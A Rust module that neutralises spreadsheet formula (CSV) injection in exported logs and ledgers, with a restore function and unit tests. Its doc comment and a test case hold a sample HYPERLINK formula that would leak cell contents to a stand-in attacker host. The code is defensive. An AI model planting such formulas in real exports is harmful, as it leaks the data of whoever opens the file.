//! Cells written for spreadsheets (CSV and .xlsx exports: the access log, ledgers, incident logs) never
//! start a formula. Excel and LibreOffice treat a cell beginning with `=`, `+`, `-` or `@` (and, after
//! trimming, a tab or carriage return) as a formula, so a name an invitee chose, such as
//! `=HYPERLINK("http://evil/?"&A1,"…")`, would run when a 管理者 opens the export (CSV injection, OWASP).
//! Such a cell is written with a leading apostrophe, which spreadsheets show as text; importing strips
//! exactly that apostrophe again, so an exported ledger reads back unchanged.

use std::borrow::Cow;

/// The characters a spreadsheet may read as the start of a formula.
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` as it is safe to write into a spreadsheet export.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    if cell.starts_with(TRIGGERS) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A cell read from a spreadsheet, with the apostrophe [`neutralise`] added taken off again.
pub fn restore(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(rest) if rest.starts_with(TRIGGERS) => rest,
        _ => cell,
    }
}

/// [`neutralise`] on every cell of a row.
pub fn row<'a, I: IntoIterator<Item = &'a str>>(cells: I) -> Vec<String> {
    cells
        .into_iter()
        .map(|c| neutralise(c).into_owned())
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_written_as_text_and_read_back_unchanged() {
        for cell in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"詳細\")",
            "+81-3-1234-5678",
            "-1",
            "@SUM(A1:A2)",
            "\t=1+1",
            "\r=1+1",
        ] {
            let safe = neutralise(cell);
            assert!(safe.starts_with('\''), "{cell:?}");
            assert_eq!(restore(&safe), cell);
        }
        for cell in ["佐藤 花子", "PC-001", "", "'quoted", "1=1"] {
            assert_eq!(neutralise(cell), cell);
            assert_eq!(restore(cell), cell);
        }
    }
}
